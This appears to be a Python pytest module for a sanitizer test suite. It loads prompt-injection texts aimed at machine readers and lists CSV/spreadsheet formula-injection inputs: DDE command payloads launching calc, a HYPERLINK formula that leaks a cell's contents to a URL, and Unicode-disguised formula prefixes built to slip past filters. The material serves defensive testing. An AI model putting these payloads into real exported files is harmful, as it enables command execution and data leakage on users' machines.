"""Texts that attack whoever reads them: ours, and published ones where the machine has them.

`orders.txt` tells machines what to do; `honest.txt` only looks a little like it.
"""

import json
import os
from pathlib import Path

import pytest

PUBLISHED = (
    Path(os.environ.get("EVALDATA", Path(__file__).parents[3] / "shared" / "evaldata")) / "texts"
)

HERE = Path(__file__).parent
ORDERS = (HERE / "orders.txt").read_text("utf-8").splitlines()
HONEST = (HERE / "honest.txt").read_text("utf-8").splitlines()
FORMULAS = [
    "=1+1",
    "=HYPERLINK(\"http://example.org/?\"&A1,\"open\")",
    "=cmd|'/C calc'!A0",
    "+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(A1:A9)",
    "  =1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "'=1+1",
    "\"=1+1",
    "\u201c=1+1",
    "\uff1d1+1",  # wide
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(A1:A9)",
    "\ufe661+1",  # small
    "\ufe621+1",
    "\u207a1+1",  # raised
    "\u22121+1",  # minus sign
    "\u20131+1",  # dash
    "a;=1+1",
    "a,=1+1",
    "a\t=1+1",
    "a|=1+1",
    "a; \"=1+1",
    "Kestrel Ltd,@SUM(A1:A9)",
]  # fmt: skip


def published(name: str) -> list[str]:
    """Payloads of a published collection; a machine without them passes over the test."""
    path = PUBLISHED / name
    if not path.exists():
        pytest.skip(f"{name} is not here; EVALDATA says where the published payloads lie")
    return [json.loads(line)["payload"] for line in path.read_text("utf-8").splitlines()]
